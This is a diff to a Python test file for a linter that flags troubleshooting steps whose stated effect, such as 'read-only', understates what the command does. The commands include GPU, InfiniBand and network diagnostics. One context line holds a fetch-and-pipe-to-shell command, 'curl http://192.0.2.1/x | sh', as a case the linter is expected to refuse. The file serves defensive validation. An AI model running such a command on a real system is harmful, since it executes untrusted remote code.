@@ -269,11 +269,29 @@ def test_lint_wants_readers_of_derived_facts_in_a_later_phase(tmp_path):
         ("changes-state", "curl http://192.0.2.1/x | sh", True),
         ("changes-state", "setpci -s 3b:00.0 ECAP_ACS+6.w=0000", True),
         ("read-only", "nvidia-smi topo -m", False),
+        ("read-only", "nvidia-smi nvlink -e", False),
+        ("read-only", "nvidia-smi -e 1", True),
+        ("read-only", "ethtool -t eth0 offline", True),
+        ("read-only", "ethtool -T eth0", False),
+        ("read-only", "ibdiagnet -r -pc", True),
+        ("read-only", "ibportstate 4 1 reset", True),
+        ("read-only", "Compare ib_write_bw to host and to GPU memory", True),
+        ("maintenance", "Compare ib_write_bw to host and to GPU memory", False),
+        ("read-only", "all_reduce_perf -b 8 -e 8G -f 2 -g 8   # on drained hosts", True),
+        ("read-only", "dcgmi diag -r 3", True),
+        ("read-only", "iperf3 -c 192.0.2.7", True),
+        ("read-only", "perf report", False),
         ("read-only", "grep . /sys/fs/cgroup/x/cpu.max > /tmp/out", False),
     ],
 )
 def test_harmful_advice(effect, text, refused):
     assert bool(list(step_problems({"text": text, "command": text, "effect": effect}))) is refused
+
+
+def test_commands_of_look_alikes_that_load_something_say_where_they_may_run():
+    step = {"text": "the same pair", "effect": "read-only", "asked": True, "command": "ib_write_bw -d DEV"}
+    assert list(step_problems(step))
+    assert list(step_problems({**step, "command": "ib_write_bw -d DEV   # on drained hosts"})) == []
 
 
 def test_allow_excuses_advice_but_not_destruction():
